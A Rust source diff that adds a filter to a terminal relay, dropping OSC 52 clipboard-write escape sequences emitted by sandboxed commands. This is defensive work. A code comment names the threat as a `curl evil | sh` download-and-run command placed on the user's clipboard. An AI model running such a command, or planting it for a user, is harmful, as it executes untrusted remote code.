@@ -257,8 +257,88 @@ impl Drop for Relay {
     }
 }
 
+/// Drops the clipboard writes (`OSC 52`) from what the command writes to the caller's
+/// terminal: a sandboxed command could otherwise put `curl evil | sh` on the user's clipboard
+/// (red-team round 13). Everything else passes unchanged; a sequence split across writes is
+/// followed across them.
+#[derive(Default)]
+pub(crate) struct ClipboardFilter {
+    state: ClipState,
+    /// Bytes of an `ESC ] digits` prefix not yet known to be a clipboard write.
+    pending: Vec<u8>,
+}
+
+#[derive(Default, Clone, Copy, PartialEq, Eq)]
+enum ClipState {
+    #[default]
+    Text,
+    Esc,
+    OscNumber,
+    Drop,
+    DropEsc,
+}
+
+impl ClipboardFilter {
+    /// Appends to `out` what of `input` may reach the terminal.
+    pub(crate) fn feed(&mut self, input: &[u8], out: &mut Vec<u8>) {
+        for &b in input {
+            match self.state {
+                ClipState::Text => {
+                    if b == 0x1b {
+                        self.pending.clear();
+                        self.pending.push(b);
+                        self.state = ClipState::Esc;
+                    } else {
+                        out.push(b);
+                    }
+                }
+                ClipState::Esc => {
+                    if b == b']' {
+                        self.pending.push(b);
+                        self.state = ClipState::OscNumber;
+                    } else {
+                        out.append(&mut self.pending);
+                        if b == 0x1b {
+                            self.pending.push(b);
+                        } else {
+                            out.push(b);
+                            self.state = ClipState::Text;
+                        }
+                    }
+                }
+                ClipState::OscNumber => {
+                    if b.is_ascii_digit() && self.pending.len() < 8 {
+                        self.pending.push(b);
+                    } else if b == b';' && &self.pending[2..] == b"52" {
+                        self.pending.clear();
+                        self.state = ClipState::Drop;
+                    } else {
+                        out.append(&mut self.pending);
+                        out.push(b);
+                        self.state = ClipState::Text;
+                    }
+                }
+                ClipState::Drop => match b {
+                    0x07 => self.state = ClipState::Text,
+                    0x1b => self.state = ClipState::DropEsc,
+                    _ => {}
+                },
+                ClipState::DropEsc => {
+                    self.state = if b == b'\\' {
+                        ClipState::Text
+                    } else {
+                        ClipState::Drop
+                    };
+                }
+            }
+        }
+    }
+}
+
 fn pump_output(shared: &Shared, master: RawFd) {
     let mut buf = vec![0u8; 16 * 1024];
+    let mut filter = ClipboardFilter::default();
+    let mut shown: Vec<u8> = Vec::with_capacity(buf.len());
     loop {
         // SAFETY: `master` stays open for the relay's lifetime (an Arc held by this thread's
         // spawner and by the relay).
@@ -277,10 +357,12 @@ fn pump_output(shared: &Shared, master: RawFd) {
         if buf[..n].contains(&0x1b) {
             st.last_escape = Some(Instant::now());
         }
+        shown.clear();
+        filter.feed(&buf[..n], &mut shown);
         if st.asking {
-            st.held.extend_from_slice(&buf[..n]);
+            st.held.extend_from_slice(&shown);
         } else {
-            write_all(shared.out, &buf[..n]);
+            write_all(shared.out, &shown);
         }
     }
     let mut st = shared.lock();
